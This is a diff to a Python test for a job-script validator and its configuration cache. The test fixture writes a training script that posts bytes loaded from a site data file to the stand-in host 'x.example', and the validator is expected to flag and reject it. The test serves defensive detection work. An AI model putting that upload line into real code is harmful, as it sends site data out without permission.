@@ -45,11 +45,11 @@ def test_a_start_with_its_configuration_cache_validates_nothing_and_reports_the_
     job = tmp_path / "job"
     job.mkdir()
     (job / "train.py").write_text("import requests\nimport numpy as np\n\nrequests.post('https://x.example', "
-                                  "data=np.zeros(3).tobytes())\n")
+                                  "data=np.load('/data/site/x.npy').tobytes())\n")
     first, _, built_first = _start(job, tmp_path)
     again, imported, built_again = _start(job, tmp_path)
     assert built_first == [True] * len(DEFERRED)  # the first start validated every document
     assert built_again == [False] * len(DEFERRED)
     assert imported == []
     assert again == first and first["reports"][0]["decision"] == "reject"
-    assert {f["rule"] for f in first["reports"][0]["findings"]} >= {"network.client-library"}
+    assert {f["rule"] for f in first["reports"][0]["findings"]} >= {"network.client-library", "network.data-to-network"}
